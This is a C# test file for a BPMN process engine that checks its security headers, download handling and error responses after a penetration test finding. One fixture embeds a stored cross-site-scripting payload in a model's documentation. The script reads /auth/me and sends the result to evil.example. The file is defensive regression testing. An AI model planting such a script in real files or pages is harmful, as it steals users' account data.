using System.Net;
using System.Net.Http.Json;
using Microsoft.Extensions.Time.Testing;
using ProzessEngine.Host.Tests.Infrastructure;

namespace ProzessEngine.Host.Tests.Security;

/// <summary>
/// Penetration test, medium: a model with an XHTML script was served by /xml as text/xml and ran in a clerk's browser, and
/// no answer carried a Content-Security-Policy, frame or nosniff header.
/// </summary>
public sealed class ResponseHeaderTests : IAsyncLifetime
{
    /// <summary>Documentation may hold any markup; the parser skips it, so this deploys.</summary>
    private const string ModelWithScript = """
        <?xml version="1.0" encoding="UTF-8"?>
        <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:xhtml="http://www.w3.org/1999/xhtml"
                          id="d" targetNamespace="http://bpmn.io/schema/bpmn">
          <bpmn:process id="falle" isExecutable="true">
            <bpmn:documentation><xhtml:script>fetch('/auth/me').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</xhtml:script></bpmn:documentation>
            <bpmn:startEvent id="start" />
            <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="end" />
            <bpmn:endEvent id="end" />
          </bpmn:process>
        </bpmn:definitions>
        """;

    private readonly EngineApp _app = new(new FakeTimeProvider(new DateTimeOffset(2026, 12, 1, 8, 0, 0, TimeSpan.Zero)));

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync()
    {
        await _app.DisposeAsync();
        _app.DeleteDatabaseFile();
    }

    [Fact]
    public async Task A_models_xml_is_a_download_that_no_browser_renders_as_a_page()
    {
        var deployed = await EngineApp.JsonAsync(await EngineApp.DeployAsync(_app.Admin(), ("falle.bpmn", ModelWithScript)));
        var key = deployed["deployments"]![0]!["processDefinition"]!["processDefinitionKey"]!.GetValue<string>();
        var clerk = await _app.ClerkAsync("erika", "fachamt");

        var response = await clerk.GetAsync($"/v2/process-definitions/{key}/xml");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.EndsWith(".bpmn", response.Content.Headers.ContentDisposition!.FileName!.Trim('"'), StringComparison.Ordinal);
        Assert.Equal("nosniff", Header(response, "X-Content-Type-Options"));
        Assert.Contains("default-src 'none'", Header(response, "Content-Security-Policy"), StringComparison.Ordinal);
        Assert.Contains("sandbox", Header(response, "Content-Security-Policy"), StringComparison.Ordinal);
        // The designer reads it with fetch(), for which nothing changes.
        Assert.Contains("<xhtml:script>", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("GET", "/health/live", null, 200)]
    [InlineData("GET", "/auth/options", null, 200)]
    [InlineData("GET", "/auth/me", null, 401)]
    [InlineData("POST", "/v2/process-instances/search", "{}", 200)]
    [InlineData("POST", "/v2/process-instances/search", "{\"filter\":{\"gibtEsNicht\":1}}", 400)]
    [InlineData("GET", "/v2/process-instances/1", null, 404)]
    [InlineData("GET", "/openapi/v1.json", null, 200)]
    public async Task Every_api_answer_has_a_restrictive_policy_no_framing_no_sniffing_and_no_server_banner(string method, string path, string? body,
        int status)
    {
        var client = path == "/auth/me" ? _app.CreateClient() : _app.Admin();
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (body is not null)
        {
            request.Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json");
        }

        var response = await client.SendAsync(request);

        Assert.Equal(status, (int)response.StatusCode);
        Assert.Equal("nosniff", Header(response, "X-Content-Type-Options"));
        Assert.Equal("DENY", Header(response, "X-Frame-Options"));
        Assert.Equal("no-referrer", Header(response, "Referrer-Policy"));
        var policy = Header(response, "Content-Security-Policy");
        Assert.StartsWith("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", policy, StringComparison.Ordinal);
        Assert.False(response.Headers.Contains("Server"), "The answer names the server software.");
    }

    [Fact]
    public async Task The_designer_page_may_run_its_own_bundle_only()
    {
        var response = await _app.CreateClient().GetAsync("/");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
        var policy = Header(response, "Content-Security-Policy");
        Assert.Contains("script-src 'self';", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("'unsafe-eval'", policy, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", policy, StringComparison.Ordinal);
        Assert.Equal("DENY", Header(response, "X-Frame-Options"));
        // The policy holds only while the built page has no inline script: Vite emits none, and this keeps it so.
        var html = await response.Content.ReadAsStringAsync();
        Assert.DoesNotMatch(@"<script(?![^>]*\bsrc=)[^>]*>", html);
        Assert.DoesNotMatch(@"<[^>]+\son[a-z]+\s*=", html);
    }

    [Fact]
    public async Task Text_that_is_not_utf8_is_a_400_problem_not_a_500()
    {
        var bytes = "{\"processDefinitionId\":\"x\",\"variables\":{\"name\":\"M"u8.ToArray()
            .Concat(new byte[] { 0xC3, 0x28, 0xFF })
            .Concat("ller\"}}"u8.ToArray()).ToArray();
        var names = "{\"processDefinitionId\":\"x\",\"variables\":{\""u8.ToArray().Concat(new byte[] { 0xFE, 0xFF }).Concat("\":1}}"u8.ToArray()).ToArray();

        foreach (var body in new[] { bytes, names })
        {
            using var content = new ByteArrayContent(body);
            content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");

            var response = await _app.Admin().PostAsync("/v2/process-instances", content);

            await EngineApp.ProblemAsync(response, 400);
        }
    }

    private static string Header(HttpResponseMessage response, string name) =>
        response.Headers.TryGetValues(name, out var values) || response.Content.Headers.TryGetValues(name, out values)
            ? string.Join(", ", values)
            : throw new Xunit.Sdk.XunitException($"The answer has no {name} header.");
}
